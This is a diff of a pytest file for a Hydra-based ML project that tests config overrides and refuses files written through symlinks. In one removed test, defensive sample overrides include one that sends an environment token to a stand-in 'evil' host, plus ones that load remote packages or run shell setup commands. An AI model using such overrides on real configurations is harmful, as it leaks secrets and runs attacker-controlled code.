@@ -2,7 +2,6 @@
 
 import ast
 import gc
-import json
 import re
 import subprocess
 import sys
@@ -23,7 +22,6 @@ from quartet.config.instantiate import make
 from quartet.core.files import CONF
 from quartet.core.problems import ConfigError
 from quartet.inference.evaluate import evaluate
-from quartet.sweeps.directory import with_sweep
 
 ROOT = CONF.parent
 
@@ -97,7 +95,11 @@ HOSTILE = [
         "quartet.build",
     ),
     *("hydra_plugins.quartet.GridSweeper", "hydra_plugins.quartet.GridSweeper.sweep"),
-    *("quartet.sweeps.cluster.Work", "quartet.sweeps.local.Program", "quartet.sweeps.jobs.Job"),
+    *(
+        "quartet.sweeps.cluster.Work",
+        "quartet.sweeps.local.Program",
+        "quartet.records.sweep_table.Job",
+    ),
     *(
         "quartet.data.datamodule.DataModule",
         "quartet.data.datamodule.DataModule.load",
@@ -512,7 +514,7 @@ def test_a_run_cannot_direct_hydra(script: str, name: str, tmp_path: Path) -> No
 
 @pytest.mark.parametrize(
     ("script", "key"),
-    [("evaluate.py", "run"), ("train.py", "resume"), ("train.py", "sweep.resume")],
+    [("evaluate.py", "run"), ("train.py", "resume")],
 )
 @pytest.mark.parametrize("name", [".lock", "train.log", ".hydra/a", "checkpoints/.last.ckpt.part"])
 def test_nothing_is_written_through_a_link(
@@ -521,50 +523,12 @@ def test_nothing_is_written_through_a_link(
     for folder in ("run/.hydra", "run/checkpoints"):
         (tmp_path / folder).mkdir(parents=True)
     (tmp_path / "run/.hydra/config.yaml").write_text("seed: 0\n")
-    if key == "sweep.resume":
-        told = {"command": ["seed=1"], "jobs": {"0": {"overrides": ["seed=1"], "conf": ""}}}
-        (tmp_path / "run/sweep.json").write_text(json.dumps(told))
     (tmp_path / "mine").write_text("mine")
     (tmp_path / "run" / name).symlink_to(tmp_path / "mine")
     done = command(script, tmp_path, f"{key}=run")
     assert done.returncode == 2
     assert f"run/{name} is a link to {tmp_path}/mine; put the file itself there." in done.stderr
     assert (tmp_path / "mine").read_text() == "mine"
-
-
-@pytest.mark.parametrize(
-    "override",
-    [
-        "+hydra.job.env_set.GIT_CONFIG_COUNT='1'",
-        "hydra.searchpath=[pkg://evil]",
-        "+hydra.launcher.setup=[touch canary]",
-        "hydra.launcher.address=ray://evil:1",
-        "model.weights='http://evil/${oc.env:MY_TOKEN}'",
-    ],
-)
-def test_the_record_of_a_sweep_directs_nothing_either(override: str, tmp_path: Path) -> None:
-    job = {"overrides": ["seed=1"], "conf": ""}
-    told = {"command": ["seed=1,2", override], "jobs": {"0": job}}
-    (tmp_path / "sweep.json").write_text(json.dumps(told))
-    with pytest.raises(SystemExit):
-        with_sweep([f"sweep.resume={tmp_path}"])
-    kept = with_sweep([f"sweep.resume={tmp_path}", override])
-    assert kept == ["-m", f"sweep.resume={tmp_path}".replace("sweep.", "hydra.sweeper."), override,
-                    "seed=1,2", f"hydra.sweep.dir='{tmp_path}'"]  # fmt: skip
-
-
-@pytest.mark.parametrize(
-    "override",
-    [
-        *("resume=mine", "+directory=mine", "hydra.sweep.dir=mine", "hydra/launcher=basic", 7),
-        *("--experimental-rerun=a.pickle", "~hydra.callbacks", "launcher=ray", "sweep.n_trials=9"),
-    ],
-)
-def test_a_job_in_the_record_of_a_sweep_has_settings_alone(override: Any, tmp_path: Path) -> None:
-    job = {"overrides": ["seed=1", override], "conf": ""}
-    (tmp_path / "sweep.json").write_text(json.dumps({"command": [], "jobs": {"0": job}}))
-    with pytest.raises(SystemExit):
-        with_sweep([f"sweep.resume={tmp_path}"])
 
 
 def test_a_value_that_is_no_text_or_number_is_refused(composed: DictConfig) -> None:
